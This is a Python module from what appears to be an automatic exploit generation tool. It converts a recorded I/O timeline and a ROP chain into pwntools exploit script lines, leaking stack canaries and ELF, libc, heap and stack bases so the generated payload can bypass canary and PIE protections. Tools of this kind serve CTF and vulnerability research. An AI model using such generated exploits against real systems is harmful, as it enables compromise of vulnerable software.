"""Turn a state's I/O timeline and a ROP chain into exploit script lines."""

from __future__ import annotations

import logging
from typing import Dict, List

from .errors import InvariantViolation
from .exploit import Exploit
from .expr import ByteVector, RopSubchain
from .modules.io_states import (
    CANARY_LEAK_SIZE,
    POINTER_LEAK_SIZE,
    InputStateInfo,
    IOStatesState,
    LeakType,
    OutputStateInfo,
    SleepStateInfo,
)
from .utils.binary import checksec

logger = logging.getLogger(__name__)

_LEAK_PREFIXES: Dict[LeakType, str] = {
    LeakType.UNKNOWN: "elf",
    LeakType.CODE: "elf",
    LeakType.LIBC: "libc",
    LeakType.HEAP: "heap",
    LeakType.STACK: "stack",
}


class InputStream:
    """Cursor over the solved stdin of the hijacked state."""

    def __init__(self, data: bytes):
        self.data = bytes(data)
        self.nr_bytes_read = 0
        self.nr_bytes_skipped = 0

    @property
    def nr_bytes_consumed(self) -> int:
        return self.nr_bytes_read + self.nr_bytes_skipped

    def read(self, size: int) -> bytes:
        start = self.nr_bytes_consumed
        chunk = self.data[start : start + size]
        self.nr_bytes_read += len(chunk)
        return chunk

    def skip(self, size: int) -> None:
        start = self.nr_bytes_consumed
        self.nr_bytes_skipped += len(self.data[start : start + size])


class ExploitGenerator:
    """Replays the recorded reads, writes and sleeps against the real process.

    Inputs before the final one are sent verbatim, outputs that leaked a
    secret are parsed back into ``canary`` / ``elf_base``, and the final
    input carries stage 1 followed by the remaining ROP subchains.
    """

    def __init__(self, exploit: Exploit):
        self.exploit = exploit

    def generate_main_function(
        self,
        mod_state: IOStatesState,
        rop_chain: List[RopSubchain],
        stage1: bytes,
    ) -> None:
        stream = InputStream(stage1)
        for i, info in enumerate(mod_state.state_info_list):
            self.exploit.writeline()
            if isinstance(info, InputStateInfo):
                self._handle_input_state(mod_state, i, info, stream, rop_chain, stage1)
            elif isinstance(info, OutputStateInfo):
                self._handle_output_state(info)
            elif isinstance(info, SleepStateInfo):
                self._handle_sleep_state(info)
            else:
                raise TypeError(f"unsupported state info: {info!r}")

    def generate_plain(self, rop_chain: List[RopSubchain]) -> None:
        """Send every subchain in turn, for runs without an I/O timeline."""

        for subchain in rop_chain:
            for expr in subchain:
                self.exploit.append_rop_payload(expr.render())
            self.exploit.flush_rop_payload()

    def should_skip_input_state(self, mod_state: IOStatesState, i: int) -> bool:
        first = mod_state.last_input_state_info_idx_before_first_symbolic_rip
        if first == -1:
            raise InvariantViolation("no input state was recorded before the first symbolic rip")
        return i != mod_state.last_input_state_info_idx and i >= first

    def _handle_input_state(
        self,
        mod_state: IOStatesState,
        i: int,
        info: InputStateInfo,
        stream: InputStream,
        rop_chain: List[RopSubchain],
        stage1: bytes,
    ) -> None:
        if self.should_skip_input_state(mod_state, i):
            self.exploit.writeline(f"# input state (offset = {info.offset}), skipped")
            stream.skip(info.offset)
            return

        self.exploit.writeline(f"# input state (offset = {info.offset})")
        if i != mod_state.last_input_state_info_idx:
            self.exploit.writeline(f"proc.send({stream.read(info.offset)!r})")
            return

        self.exploit.writeline("# input state (rop chain begin)")
        self._handle_stage1(info, stream, rop_chain, stage1)
        self.generate_plain(rop_chain[1:])

    def _handle_stage1(
        self,
        info: InputStateInfo,
        stream: InputStream,
        rop_chain: List[RopSubchain],
        stage1: bytes,
    ) -> None:
        mitigations = checksec(self.exploit.elf)
        if not mitigations.canary and not mitigations.pie:
            if len(rop_chain[0]) != 1 or not isinstance(rop_chain[0][0], ByteVector):
                raise InvariantViolation("the first subchain must be a single ByteVector")
            payload = ByteVector(stream.read(info.offset)).render()
        else:
            # The solved bytes embed the emulated canary and ELF base; the
            # script patches them with the leaked values at run time.
            payload = f"solve_stage1(canary, elf_base, '{stage1.hex()}')[{stream.nr_bytes_read}:"
            if stream.nr_bytes_skipped:
                payload += str(stream.nr_bytes_consumed)
            payload += "]"
        self.exploit.append_rop_payload(payload)
        self.exploit.flush_rop_payload()

    def _handle_output_state(self, info: OutputStateInfo) -> None:
        self.exploit.writeline("# output state")
        if not info.valid:
            self.exploit.writeline("proc.recvrepeat(0.1)")
            return

        self.exploit.writeline(f"# leaking: {info.leak_type}")
        if info.leak_type is LeakType.CANARY:
            self.exploit.writelines(
                [
                    f"proc.recv({info.buf_index})",
                    f"canary = u64(b'\\x00' + proc.recv({CANARY_LEAK_SIZE}))",
                    "log.info('leaked canary: {}'.format(hex(canary)))",
                ]
            )
            return

        prefix = _LEAK_PREFIXES[info.leak_type]
        self.exploit.writelines(
            [
                f"proc.recv({info.buf_index})",
                f"{prefix}_leak = u64(proc.recv({POINTER_LEAK_SIZE}).ljust(8, b'\\x00'))",
                f"{prefix}_base = {prefix}_leak - {info.base_offset:#x}",
                f"log.info('leaked {prefix}_base: {{}}'.format(hex({prefix}_base)))",
            ]
        )

    def _handle_sleep_state(self, info: SleepStateInfo) -> None:
        self.exploit.writelines(["# sleep state", f"sleep({info.sec})"])


__all__ = ["ExploitGenerator", "InputStream"]
